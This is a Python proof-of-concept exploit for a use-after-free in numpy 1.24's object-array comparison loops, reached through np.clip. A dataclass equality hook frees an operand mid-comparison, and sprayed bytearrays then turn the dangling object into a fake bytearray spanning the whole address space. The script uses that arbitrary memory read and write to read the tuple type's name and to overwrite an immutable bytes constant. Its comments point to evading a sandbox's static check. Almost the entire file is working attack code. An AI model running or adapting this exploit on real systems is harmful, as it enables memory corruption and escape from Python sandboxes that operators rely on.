# source: numpy 1.24 numpy/core/src/umath/funcs.inc.src npy_ObjectMax/npy_ObjectMin + loops PyUFunc_OO_O (clip -> maximum): borrowed operands, the chosen one INCREF'd only after the comparison returns; dataclasses order=True (sandexec README, "The static check", recommends it instead of def __lt__) compares field tuples, calling the script's __eq__
# family: use-after-free in numpy object-array ufunc loops: the operand is freed when the generated comparison's frame ends, then returned -> freed block refilled with a fake bytearray -> arbitrary read/write
# goal: np.clip(b, a, None) returns a dangling Quote; a sprayed bytearray buffer takes its 80-byte block as a fake bytearray over the whole address space; reads the tuple type's name by address and overwrites an immutable bytes constant
import numpy as np
from dataclasses import dataclass, field

M64 = (1 << 64) - 1


def addr_of_type(t):
    h = hash(t) & M64
    return ((h << 4) | (h >> 60)) & M64


def q(v):
    return (v & M64).to_bytes(8, "little")


class X:
    def __init__(self, k):
        self.k = k

    def __eq__(self, other):
        if G["n"] == 0:
            G["n"] = 1
            b[0] = 0        # drops the array's reference to the second operand
        return True


@dataclass(order=True, slots=True)
class Quote:
    # order=True: the library writes the ordering methods; they compare field tuples,
    # which calls X.__eq__ while numpy holds its operands by borrowed pointers
    venue: object
    seq: int
    f1: object = field(default=None, compare=False)
    f2: object = field(default=None, compare=False)
    f3: object = field(default=None, compare=False)


G = {"n": 0}
T_BYTEARRAY = addr_of_type(bytearray)
# a fake bytearray over the whole address space, at the freed Quote's object (block + 16)
FAKE = q(1 << 40) + q(T_BYTEARRAY) + q(1 << 62) + q(1 << 62) + q(0) + q(0) + q(1)
P = b"\x00" * 16 + FAKE                 # 72 bytes
P = P + b"\x00" * (79 - len(P))         # buffer 80 = the Quote's block
spray = [None] * 256

a = np.empty(1, dtype=object)
b = np.empty(1, dtype=object)
a[0] = Quote(X(0), 1)
b[0] = Quote(X(1), 2)
res = np.clip(b, a, None)
for i in range(256):
    spray[i] = bytearray(P)     # the freed block is now the fake bytearray
mem = res[0]
print("np_clip returned:", type(mem).__name__)


def rd(addr):
    return int.from_bytes(mem[addr:addr + 8], "little")


def cstr(addr):
    out = b""
    while mem[addr] != 0:
        out += bytes([mem[addr]])
        addr += 1
    return out


t = addr_of_type(tuple)
print("read tuple type's tp_name at", hex(t), "->", cstr(rd(t + 24)))


def secret():
    return b"immutable-constant"


code = rd(int(repr(secret).split(" at ")[1][:-1], 16) + 48)
consts = rd(code + 24)
for i in range(rd(consts + 16)):
    c = rd(consts + 24 + 8 * i)
    if rd(c + 8) == addr_of_type(bytes):
        for j, ch in enumerate(b"OVERWRITTEN-bytes!"):
            mem[c + 32 + j] = ch
print("bytes constant now:", secret())
